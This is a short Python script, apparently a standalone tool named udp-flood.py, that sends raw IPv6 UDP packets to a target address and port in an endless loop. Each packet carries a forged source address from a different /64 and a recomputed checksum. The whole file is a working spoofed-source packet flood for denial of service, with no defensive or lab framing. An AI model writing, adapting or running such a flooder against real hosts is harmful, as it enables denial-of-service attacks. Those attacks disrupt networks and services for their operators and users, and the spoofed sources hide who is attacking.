"""Sends forged datagrams, each from a /64 of its own below 2001:db8:f000::/36, as fast as it can until it is ended.

    python3 udp-flood.py ADDRESS PORT

It prints how many it has sent, at each 10000. They say "forged".
"""

import socket
import struct
import sys

UDP = socket.IPPROTO_UDP
DATA = b"forged"

to, port = sys.argv[1], int(sys.argv[2])
destination = socket.inet_pton(socket.AF_INET6, to)
network = bytearray(socket.inet_pton(socket.AF_INET6, "2001:db8:f000::1"))
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)

length = 8 + len(DATA)
head = struct.pack("!HHHH", 40_000, port, length, 0)
packet = bytearray(struct.pack("!IHBB", 6 << 28, length, UDP, 64) + network + destination + head + DATA)
# The sum without the 32 bits of the source that change, which are at 12; the checksum is at 46.
fixed = bytes(network) + destination + struct.pack("!II", length, UDP) + head + DATA
base = sum(struct.unpack(f"!{len(fixed) // 2}H", fixed)) - 0xF000
number = 0
while True:
    high, low = 0xF000 | number >> 16 & 0xFFF, number & 0xFFFF
    total = base + high + low
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    struct.pack_into("!HH", packet, 12, high, low)
    struct.pack_into("!H", packet, 46, ~total & 0xFFFF or 0xFFFF)
    raw.sendto(packet, (to, 0))
    number += 1
    if number % 10_000 == 0:
        print(f"{number} sent", flush=True)
